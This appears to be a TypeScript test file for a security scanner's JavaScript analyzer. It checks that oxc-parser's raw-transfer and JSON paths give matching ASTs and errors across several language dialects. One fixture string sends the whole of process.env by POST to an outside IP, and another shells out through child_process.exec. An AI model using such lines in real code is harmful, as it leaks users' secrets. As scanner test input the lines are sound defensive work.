// oxc-parser's raw transfer (experimental, used for speed) must give the same ESTree and the same
// errors as its JSON path, for every dialect and for broken, Unicode and JSX input; a dependency
// update that breaks this fails here instead of changing facts silently.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseOnce } from '../../../src/scan/analyzers/javascript.ts';

const samples: [string, 'js' | 'jsx' | 'ts' | 'tsx', string][] = [
  ['fetch with env', 'js', "const body = JSON.stringify(process.env);\nfetch('https://203.0.113.9/upload', { method: 'POST', body });\n"],
  ['typescript types', 'ts', 'export function f(row: { id: string; total: number }): string {\n  return `${row.id}: ${(row.total * 2).toFixed(2)}`;\n}\n'],
  ['jsx element', 'jsx', 'const A = () => <div title="x">{items.map((i) => <b key={i}>{i}</b>)}</div>;\n'],
  ['tsx generic', 'tsx', 'function id<T,>(x: T): T { return x; }\nexport const C = (p: { n: number }) => <span>{id(p.n)}</span>;\n'],
  ['non-ASCII and astral', 'js', "const s = '日本語 \u{1F600} \u200b';\nrequire('child_process').exec(`echo ${s}`);\n"],
  ['syntax errors', 'ts', 'const = ;\nfunction (a, {\nimport x from\n'],
  ['regex and template', 'js', 'const r = /a(?<n>b)+/giu; const t = tag`x${r}y`;\n'],
];

describe('javascript analyzer: oxc raw transfer', () => {
  for (const [name, lang, text] of samples) {
    it(`gives the JSON path's AST and errors: ${name}`, () => {
      const json = parseOnce(lang, text, false);
      const raw = parseOnce(lang, text, true);
      assert.deepEqual(JSON.parse(JSON.stringify(raw.program)), JSON.parse(JSON.stringify(json.program)));
      assert.equal(raw.errors.length, json.errors.length);
    });
  }
});
